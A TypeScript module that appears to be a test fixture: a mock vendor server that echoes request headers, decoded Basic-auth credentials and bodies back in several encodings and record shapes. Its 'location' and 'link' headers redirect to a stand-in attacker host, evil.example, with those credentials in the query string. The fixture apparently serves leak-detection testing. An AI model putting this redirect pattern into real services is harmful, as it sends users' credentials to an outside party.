import type { ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';

import type { Answerer, Seen } from './vendor-front.js';

/** Ways in which a vendor repeats what it was sent. */
export const echoShapes: Record<string, (words: string, response: ServerResponse) => void> = {
  json: (words, response) => end(response, 'application/json', toRecords(words)),
  text: (words, response) => end(response, 'text/plain', words),
  base64: (words, response) => end(response, 'text/plain', Buffer.from(words).toString('base64')),
  gzip: (words, response) =>
    end(response.setHeader('content-encoding', 'gzip'), 'application/json', gzipSync(toRecords(words))),
  chunked: (words, response) => {
    response.setHeader('content-type', 'application/json');
    const body = toRecords(words);
    for (let from = 0; from < body.length; from += 7) response.write(body.slice(from, from + 7));
    response.end();
  },
};
export const end = (response: ServerResponse, type: string, body: string | Buffer): void =>
  void response.setHeader('content-type', type).end(body);

/** A list and an error of every vendor in one, whose every text is what was sent. */
function toRecords(words: string): string {
  const record = {
    ...{
      id: 1,
      ticket_id: 1,
      type: 'Comment',
      body: words,
      plain_body: words,
      body_text: words,
      subject: words,
    },
    ...{ created_at: '2026-01-01T00:00:00Z', created_datetime: '2026-01-01T00:00:00Z', public: true },
    ...{
      channel: 'email',
      from_agent: false,
      author_id: 1,
      sender: { id: 1, email: 'customer@client.example', name: words },
    },
  };
  const fault = { message: words, error: { message: words, msg: words, title: words }, description: words };
  return JSON.stringify({
    data: [record],
    comments: [record],
    items: [],
    total: 0,
    ...fault,
    [words]: words,
  });
}

/** Repeats every header, and a form-encoded or JSON body, of the request. */
export const echo =
  (shape: string, status: number): ((seen: Seen) => Answerer) =>
  (seen) =>
  (response) => {
    const sent = Object.values(seen.headers).flat().join(' | ');
    const pair = /Basic (\S+)/.exec(sent)?.[1] ?? '';
    const words = `${sent} | ${Buffer.from(pair, 'base64').toString()} | ${seen.body.toString()}`;
    const safe = encodeURI(words).replaceAll("'", '%27');
    response.statusCode = status;
    for (const name of ['x-echo', 'x-request-id', 'etag', 'retry-after']) response.setHeader(name, words);
    response.setHeader('location', `https://evil.example/?seen=${safe}`);
    response.setHeader('link', `<https://evil.example/?seen=${safe}>; rel="next"`);
    response.setHeader('www-authenticate', `Bearer error="invalid_token", error_description="${words}"`);
    echoShapes[shape]?.(words, response);
  };
